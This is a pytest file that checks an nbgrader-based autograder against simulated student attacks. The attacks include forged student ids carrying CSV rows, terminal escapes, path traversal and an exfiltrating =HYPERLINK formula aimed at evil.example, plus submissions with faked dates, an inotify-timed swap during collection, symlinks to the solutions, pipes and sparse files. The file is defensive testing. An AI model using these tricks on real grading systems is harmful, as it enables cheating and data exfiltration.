"""Issues 31 and 45: what the grader trusts besides the answers: ids, times, collection, CSV.

One class goes through a real exchange with the README's commands: nbgrader
release, students' ``nbgrader submit`` (some as other accounts), the
course's ``nbgrader collect``, ``python -m autograders grade`` and
``nbgrader export``. Among honest students, others attack what is not an
answer: ids that forge CSV rows, summary lines and terminal escapes, a
formula, a path; a late submission whose folder and ``timestamp.txt`` were
re-dated; entries in ``inbound/`` that used to stop collection (a folder
over nbgrader's 100 MB limit, a pipe, a symbolic link to the solutions, a
stray file, a malformed name). Issue 45's: a student who swaps their
on-time folder of stubs for work finished after the due date, as soon as
collect has listed it (their own inotify watcher, as in the issue; collect
waits at that one point for the swap to be made, :mod:`tests.support.collect_hooks`,
so the student always wins the race), and an account that writes eight
submissions with made-up ids, each with a sparse file, straight into
``inbound/``. Every honest student is collected and gets their fair score;
every attempt is named; none changes a grade.
"""

from __future__ import annotations

import csv
import datetime
import io
import os
import pwd
import shutil
import subprocess
import sys
import time

import nbformat
import pytest

from autograders.ids import is_safe, printable, shown
from tests.support import accounts
from tests.support import nbgrader_course as nc

pytestmark = pytest.mark.slow  # real nbgrader, an exchange, other accounts and the grader

STEMS = ("01_input", "07_softmax")  # a small class: two notebooks each
ARGS = ("--CourseDirectory.course_id=mhsa",)

#: Ids a student can pass to ``nbgrader submit --student`` (it refuses only * and +).
FORGE_ROW = "mallory,mhsa,,2026,x,y,z,56,0,56,56\nvictim"
FORGE_LINE = "x: ok\n! victim: read the hidden tests from another account"
ANSI = "\x1b[10A\x1b[Jall submissions clean"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
COMMAS = "a,b,c"
CARRIAGE = "carol\rvictim"
PATH = "a/../../x"
HOSTILE_IDS = (FORGE_ROW, FORGE_LINE, ANSI, FORMULA, COMMAS, CARRIAGE, PATH)


def _exchange(exchange) -> list:
    return [f"--Exchange.root={exchange}", *ARGS]


def _notebooks(home, answers="solution") -> None:
    folder = home / nc.ASSIGNMENT
    folder.mkdir(exist_ok=True)
    for stem in STEMS:
        nbformat.write(nc.student_notebook(stem, answers), str(folder / f"{stem}.ipynb"))


def _submit_as_root(tmp, exchange, student: str) -> None:
    """``nbgrader submit --student student`` (the account does not matter to the id)."""
    home = tmp / f"home-{len(list(tmp.iterdir()))}"
    home.mkdir()
    _notebooks(home)
    nc._python(home, "nbgrader", "submit", nc.ASSIGNMENT, f"--student={student}",
               *_exchange(exchange), check=True)  # fmt: skip


def _submit_as(
    account: str, shared, exchange, *extra: str, answers="solution", scratch=False
) -> subprocess.CompletedProcess:
    """The README's student commands, run by ``account`` itself, with the solutions' answers.

    With ``scratch``, the assignment folder holds an empty folder ``scratch`` too.
    """
    home = accounts.home_of(account, shared)
    entry = pwd.getpwnam(account)
    _notebooks(home, answers)
    if scratch:
        (home / nc.ASSIGNMENT / "scratch").mkdir()
    for root, dirs, files in os.walk(home):
        for name in [*dirs, *files]:
            os.chown(os.path.join(root, name), entry.pw_uid, entry.pw_gid)
    proc = accounts.run_as(
        account, ["nbgrader", "submit", nc.ASSIGNMENT, *_exchange(exchange), *extra], home
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return proc


def _redate(account: str, shared, exchange) -> None:
    """As ``account``: rename its own inbound folder and rewrite timestamp.txt a day earlier."""
    script = f"""
import datetime, os
inbound = {str(exchange / "mhsa" / "inbound")!r}
cache = os.path.expanduser("~/.local/share/jupyter/nbgrader_cache/mhsa")
(name,) = os.listdir(cache)  # inbound/ cannot be listed: the student's own copy names it
mine = os.path.join(inbound, name)  # submitted without nbgrader's random suffix
early = (datetime.datetime.now(datetime.UTC) - datetime.timedelta(days=1))
stamp = early.strftime("%Y-%m-%d %H:%M:%S.%f UTC")
student, assignment, _ = name.split("+")
new = os.path.join(inbound, "+".join([student, assignment, stamp]))
os.rename(mine, new)
with open(os.path.join(new, "timestamp.txt"), "w") as f:
    f.write(stamp)
t = early.timestamp()
for root, dirs, files in os.walk(new):
    for name in [*dirs, *files, "."]:
        os.utime(os.path.join(root, name), (t, t))
"""
    home = accounts.home_of(account, shared)
    proc = accounts.run_as(account, [sys.executable, "-c", script], home)
    assert proc.returncode == 0, proc.stderr


#: As the student: finish the work late, then swap it in as soon as collect has listed the folder.
SWAP = """
import ctypes, os, shutil, sys
submitted, finished = sys.argv[1:]
home = os.path.expanduser("~")
mine = submitted.split("Destination: ", 1)[1].splitlines()[0]  # as nbgrader submit said
late = os.path.join(home, "late")
shutil.copytree(finished, late)  # the work, finished after the due date
shutil.copy(os.path.join(mine, "timestamp.txt"), late)  # and the on-time stamp
inotify = ctypes.CDLL(None, use_errno=True)
fd = inotify.inotify_init1(os.O_CLOEXEC)
IN_CLOSE_NOWRITE = 0x10
if fd < 0 or inotify.inotify_add_watch(fd, os.path.join(mine, "scratch").encode(),
                                       IN_CLOSE_NOWRITE) < 0:
    raise OSError(ctypes.get_errno(), "inotify")
open(os.path.join(home, "watching"), "w").close()
os.read(fd, 4096)  # collect's listing has read the folder's last sub-folder
os.rename(mine, os.path.join(home, "on-time"))  # the stubs out,
os.rename(late, mine)  # the late work in, under the listed name
open(os.path.join(home, "swapped"), "w").close()
"""


def _watch_and_swap(account: str, shared, submitted: subprocess.CompletedProcess):
    """``account`` finishes its work now and waits to swap it in (:data:`SWAP`); its process.

    ``submitted`` is its ``nbgrader submit``, whose output names its inbound folder.
    """
    finished = shared / f"finished-{account}"  # a solution, readable by every account
    finished.mkdir()
    stem = STEMS[-1]  # one notebook is enough to be worth points
    nbformat.write(nc.student_notebook(stem, "solution"), str(finished / f"{stem}.ipynb"))
    home = accounts.home_of(account, shared)
    said = submitted.stdout + submitted.stderr
    watcher = accounts.start_as(account, [sys.executable, "-c", SWAP, said, finished], home)
    while not (home / "watching").exists():  # ready once its watch is set
        if watcher.poll() is not None:
            raise AssertionError(f"the student's watcher ended: {watcher.communicate()}")
        time.sleep(0.02)
    return watcher, home / "swapped"


#: As the student: eight submissions under made-up ids, straight into inbound, each sparse.
MANY_IDS = """
import datetime, os, shutil, sys
inbound, notebook = sys.argv[1:]
for i in range(8):
    stamp = datetime.datetime.now(datetime.UTC).strftime("%Y-%m-%d %H:%M:%S.%f UTC")
    folder = os.path.join(inbound, f"mate{i}+mhsa+{stamp}+r{i}")
    os.mkdir(folder)
    with open(os.path.join(folder, "timestamp.txt"), "w") as f:
        f.write(stamp)
    shutil.copy(notebook, folder)
    with open(os.path.join(folder, "weights.bin"), "wb") as f:  # 240 kB on disk, 95 MB long
        f.write(os.urandom(240_000))
        f.truncate(95_000_000)
"""


def _many_ids(account: str, shared, exchange) -> None:
    home = accounts.home_of(account, shared)
    argv = [
        sys.executable,
        "-c",
        MANY_IDS,
        exchange / "mhsa" / "inbound",
        nc.STUDENT / f"{STEMS[0]}.ipynb",
    ]
    proc = accounts.run_as(account, argv, home)
    assert proc.returncode == 0, proc.stderr


def _collect_pausing(course, exchange, resume_when) -> subprocess.CompletedProcess:
    """The README's ``nbgrader collect``, waiting between its listing and its copy for a file."""
    hook = "tests.support.collect_hooks.PausedCollect"
    argv = ["collect", nc.ASSIGNMENT, *_exchange(exchange), f"--ExchangeFactory.collect={hook}",
            f"--PausedCollect.resume_when={resume_when}"]  # fmt: skip
    return subprocess.run(
        [sys.executable, "-m", "nbgrader", *argv],
        cwd=course,
        env={**nc.env(), "PYTHONPATH": str(nc.ROOT)},
        capture_output=True,
        text=True,
        timeout=600,
    )


def _inbound_traps(course, exchange) -> None:
    """Entries every student could write straight into ``inbound/`` (made here as root)."""
    inbound = exchange / "mhsa" / "inbound"
    stamp = datetime.datetime.now(datetime.UTC).strftime("%Y-%m-%d %H:%M:%S.%f UTC")
    big = inbound / f"big+mhsa+{stamp}+r1"  # over nbgrader's 100 MB (sparse: no disk used)
    big.mkdir()
    (big / "timestamp.txt").write_text(stamp)
    with open(big / "01_input.ipynb", "wb") as f:
        f.truncate(101 * 10**6)
    pipe = inbound / f"piper+mhsa+{stamp}+r2"  # a pipe would block a copy forever
    pipe.mkdir()
    (pipe / "timestamp.txt").write_text(stamp)
    os.mkfifo(pipe / "01_input.ipynb")
    nbformat.write(nc.student_notebook("07_softmax", "solution"), str(pipe / "07_softmax.ipynb"))
    link = inbound / f"linker+mhsa+{stamp}+r3"  # the solutions, through a link
    link.mkdir()
    (link / "timestamp.txt").write_text(stamp)
    for stem in STEMS:
        (link / f"{stem}.ipynb").symlink_to(course / "solutions" / "mhsa" / f"{stem}.ipynb")
    (inbound / f"stray+mhsa+{stamp}+r4").write_text("not a folder")
    (inbound / "broken+mhsa").mkdir()  # not STUDENT+ASSIGNMENT+TIME+RANDOM


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    accounts.need_root()
    tmp = tmp_path_factory.mktemp("door")
    config = 'c.LateSubmissionPlugin.penalty_method = "zero"\nc.Execute.timeout = 20\n'
    course = nc.make_course(tmp / "course", config)
    with accounts.shared_folder() as shared:
        exchange = shared / "exchange"
        nc._python(course, "autograders", "init-exchange", str(exchange), check=True)
        nc.generate(course)
        nc.nbgrader(course, "release_assignment", nc.ASSIGNMENT, "--force", *_exchange(exchange))
        homes = tmp / "homes"
        homes.mkdir()
        _submit_as_root(homes, exchange, "alice")  # honest, on time
        _submit_as("daemon", shared, exchange)  # honest, on time, as their own account
        _submit_as("nobody", shared, exchange, "--student=daemon", answers=None)  # in their name
        for student in HOSTILE_IDS:
            _submit_as_root(homes, exchange, student)
        _submit_as_root(homes, exchange, "zed")  # honest, after the hostile ones
        on_time = _submit_as("man", shared, exchange, answers=None, scratch=True)  # stubs
        due = datetime.datetime.now(datetime.UTC)
        nc.nbgrader(course, "db", "assignment", "add", nc.ASSIGNMENT,
                    f"--duedate={due.strftime('%Y-%m-%d %H:%M:%S.%f UTC')}")  # fmt: skip
        time.sleep(1.5)  # the late ones arrive after the due date, by the file system's clock
        _submit_as("bin", shared, exchange)  # honest, late
        _submit_as("sys", shared, exchange, "--ExchangeSubmit.add_random_string=False")  # late,
        _redate("sys", shared, exchange)  # and then re-dated to look on time
        _inbound_traps(course, exchange)
        _many_ids("games", shared, exchange)
        watcher, swapped = _watch_and_swap("man", shared, on_time)  # finished late, waits
        try:
            collect = _collect_pausing(course, exchange, swapped)
            assert collect.returncode == 0, collect.stdout + collect.stderr
            assert watcher.wait(timeout=60) == 0, watcher.communicate()
        finally:
            if watcher.poll() is None:
                watcher.kill()
                watcher.wait()
    # a folder a stock collect (or a hand) let in under an unsafe id: the grade command refuses it
    shutil.copytree(course / "submitted" / "alice", course / "submitted" / FORGE_ROW)
    proc = nc.grade(course, "--workers", "2")
    nc.nbgrader(course, "export", "--to", "grades.csv")
    return course, collect, proc.stdout, nc.scores(course)


def _line(summary: str, student: str) -> str:
    return next((ln for ln in summary.splitlines() if ln.startswith(f"! {student}:")), "")


def _full(scores: dict, student: str) -> bool:
    return all(scores[student][s][0] == scores["_max"][s] for s in STEMS)


def test_collection_never_stops_and_honest_students_get_their_scores(graded):
    course, collect, _, scores = graded
    assert collect.returncode == 0, collect.stderr
    for student in ("alice", "daemon", "zed"):
        assert _full(scores, student), (student, scores.get(student))
    assert sorted(p.name for p in (course / "submitted").iterdir() if is_safe(p.name)) == [
        "alice", "bin", "daemon", "linker", "man", "mate0", "piper", "sys", "zed"
    ]  # fmt: skip


def test_an_oversized_submission_is_skipped_and_named_in_the_summary_and_csv(graded):
    course, _, summary, _ = graded
    assert "larger than 100 MB in all" in _line(summary, "big"), summary
    rows = _rows(course)
    assert rows["big"]["grading"].startswith("FAILED: a submission was not collected: ")
    assert float(rows["big"]["score"]) == 0


def test_a_pipe_and_links_are_left_out_and_named(graded):
    course, _, summary, scores = graded
    assert "'01_input.ipynb' is not a regular file (left out)" in _line(summary, "piper"), summary
    assert scores["piper"]["07_softmax"][0] == scores["_max"]["07_softmax"]  # the rest: graded
    assert "'01_input.ipynb' is a symbolic link (left out)" in _line(summary, "linker"), summary
    assert scores["linker"]["07_softmax"][0] == 0  # the solutions did not come through the link
    assert not (course / "submitted" / "linker" / "mhsa" / "07_softmax.ipynb").exists()


def test_a_stray_file_and_a_malformed_name_are_named_and_cost_nothing(graded):
    _, _, summary, _ = graded
    assert "! stray: a submission was not collected: it is not a folder" in summary
    assert "! broken: a submission was not collected: its name is not STUDENT+" in summary


def test_unsafe_ids_are_refused_named_escaped_and_reach_nothing(graded):
    course, _, summary, _ = graded
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        ids = sorted(s.id for s in gb.students)
    assert all(is_safe(s) for s in ids), ids
    unsafe = [p.name for p in (course / "submitted").iterdir() if not is_safe(p.name)]
    assert unsafe == [FORGE_ROW]  # the one planted by hand: collect let none in
    refused = f"! refused: submitted/{shown(FORGE_ROW)} not graded: its student id is not one"
    assert refused in summary, summary
    assert not (course / "autograded" / FORGE_ROW).exists()
    for student in HOSTILE_IDS:
        if "/" in student:
            continue  # nbgrader submit wrote it outside inbound/: collect never sees it
        name = printable(student)
        assert any(name in ln and "student id is not one the course accepts" in ln
                   for ln in summary.splitlines()), (student, summary)  # fmt: skip


def test_the_summary_carries_no_control_character_and_no_forged_line(graded):
    _, _, summary, _ = graded
    assert not any(ch != "\n" and not ch.isprintable() for ch in summary), repr(summary)
    lines = summary.splitlines()
    assert not any(ln.startswith(("! victim", "all submissions clean")) for ln in lines), lines


def _rows(course) -> dict:
    with open(course / "grades.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len({r["student_id"] for r in rows}) == len(rows), "one row per student"
    return {r["student_id"]: r for r in rows}


def test_the_csv_has_one_row_per_student_and_no_forged_row(graded):
    course, _, _, scores = graded
    text = (course / "grades.csv").read_text()
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert all(len(row) == len(table[0]) for row in table), table
    rows = _rows(course)
    assert "victim" not in rows and "mallory" not in rows
    assert float(rows["alice"]["score"]) == sum(scores["_max"][s] for s in STEMS) > 0
    assert rows["alice"]["grading"] == "ok"


def test_a_submission_in_a_classmates_name_does_not_replace_theirs(graded):
    _, _, summary, scores = graded
    assert _full(scores, "daemon"), scores["daemon"]  # their own, though nobody's is newer
    line = _line(summary, "daemon")
    assert "it came from account 'nobody', while daemon submitted from their own account" in line
    assert "submitted from account" not in line  # what was collected is their own


def test_late_is_late_whatever_the_student_wrote(graded):
    course, _, summary, _ = graded
    rows = _rows(course)
    assert float(rows["bin"]["score"]) == 0.0 < float(rows["bin"]["raw_score"])  # honest late
    assert float(rows["sys"]["score"]) == 0.0 < float(rows["sys"]["raw_score"])  # re-dated
    assert "reached the exchange at" in _line(summary, "sys"), summary
    assert "reached the exchange at" not in _line(summary, "bin")
    assert float(rows["daemon"]["score"]) == float(rows["daemon"]["raw_score"]) > 0  # on time


def test_late_work_swapped_in_during_collect_is_graded_late_and_named(graded):
    course, _, summary, scores = graded
    rows = _rows(course)
    assert float(rows["man"]["raw_score"]) == scores["_max"][STEMS[-1]] > 0  # the late work
    assert float(rows["man"]["score"]) == 0.0  # and late: nbgrader's penalty from its arrival
    line = _line(summary, "man")
    assert "changed while it was being collected: the folder was replaced by another" in line
    assert "its arrival is the latest change of what was copied" in line
    assert "changed while" not in _line(summary, "daemon")  # a folder left alone: nothing said


def test_one_account_is_collected_under_one_student_id_and_the_others_are_named(graded):
    course, _, summary, _ = graded
    rows = _rows(course)
    assert "mate0" in rows and not any(f"mate{i}" in rows for i in range(1, 8)), sorted(rows)
    assert not any((course / "submitted" / f"mate{i}").exists() for i in range(1, 8))
    line = next(ln for ln in summary.splitlines() if ln.startswith("! refused: account 'games'"))
    assert "submitted under 8 student ids" in line and "'mate0' (the first to arrive)" in line
    others = ", ".join(f"'mate{i}'" for i in range(1, 8))
    assert f"not collected: {others} (7 folder(s))" in line, line


def test_sparse_files_cost_the_course_folder_what_they_cost_the_student(graded):
    course = graded[0]
    copied = course / "submitted" / "mate0" / "mhsa" / "weights.bin"
    assert copied.stat().st_size == 95_000_000  # counted, and copied, in full
    assert copied.stat().st_blocks * 512 < 2_000_000
    on_disk = sum(p.lstat().st_blocks * 512 for p in (course / "submitted").rglob("*"))
    assert on_disk < 20_000_000, on_disk  # the whole class; eight sparse ids made 764 MB before


def test_the_export_quotes_and_neutralises_whatever_the_gradebook_holds(tmp_path):
    """Ids a stock nbgrader collect let in: the CSV still has one row each, no formula."""
    from nbgrader.api import Gradebook

    course = nc.make_course(tmp_path / "course")
    nc.generate(course)
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        for student in (*HOSTILE_IDS, "plain"):
            gb.add_student(student, first_name="-2+3", last_name="@SUM(A1)", email="=1+1")
    proc = nc.nbgrader(course, "export", "--to", "grades.csv")
    assert proc.returncode == 0
    with open(course / "grades.csv", newline="") as f:
        table = list(csv.reader(f))
    header, rows = table[0], table[1:]
    assert len(rows) == len(HOSTILE_IDS) + 1 and {len(r) for r in table} == {len(header)}
    ids = [r[header.index("student_id")] for r in rows]
    assert sorted(ids) == sorted(
        ("'" + s if s[0] in "=+-@" else s) for s in (*HOSTILE_IDS, "plain")
    )
    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows for cell in row), rows


def test_shown_escapes_every_control_character():
    assert shown("a\nb\x1b[2J\u202ec\\n") == "'a\\nb\\x1b[2J\\u202ec\\\\n'"
    assert printable("ok, fine") == "ok, fine"
    for bad in ("", ".", "..", "a/b", "a b", "a,b", "-rf", "=1", "é", "a" * 65, "a\n", None):
        assert not is_safe(bad), bad
    for good in ("alice", "a.b-c_d@x.org", "7", "A" * 64):
        assert is_safe(good), good
